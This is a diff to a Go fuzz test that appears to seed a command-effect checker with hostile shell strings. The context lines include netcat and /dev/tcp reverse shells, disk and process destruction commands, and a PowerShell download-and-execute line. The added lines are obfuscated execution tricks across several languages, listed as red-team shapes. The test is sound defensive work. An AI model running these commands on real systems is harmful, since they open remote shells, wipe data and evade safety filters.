@@ -21,6 +21,12 @@ func FuzzEffects(f *testing.F) {
 		"cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f", "bash -i >& /dev/tcp/h/1 0>&1", "killall -9 -u $USER",
 		"kill -s KILL -- -1", "pkill -9 ''", "umount -a -f", "parted -s /dev/sda mklabel gpt", "Remove-Item * -Recurse -Force",
 		"rd /s /q .", "xattr -cr /", "Invoke-WebRequest -Uri https://x -OutFile a; iex (gc a)",
+		// issue #12 red-team shapes: names code builds, more languages, descriptors, variables
+		`python3 -c "getattr(__import__('o'+'s'),'system')('x')"`, `node -e "const m='child_process';require(m)['exec']('x')"`,
+		`php -r '$f="sys"."tem"; $f("x");'`, "echo 'exec x [exec y]' | tclsh", `osascript -e 'do shell script "x"'`,
+		"julia -e 'run(`x`)'", `Rscript -e 'system2("x", c("-y"))'`, "exec 3<>/dev/tcp/h/1; sh <&3", "IFS=,;c=a,b;$c",
+		"GIT_SSH_COMMAND='x' git fetch", "make -f - <<< 'a: ; x'", "screen -dmS n sh -c x", "gdb -ex 'shell x'",
+		"find ~ | xargs rm -rf", `[IO.File]::Delete("C:\x")`, `gci C:\ -Recurse | Remove-Item`, `env -S "sh -c 'x'"`,
 	} {
 		f.Add(s)
 	}
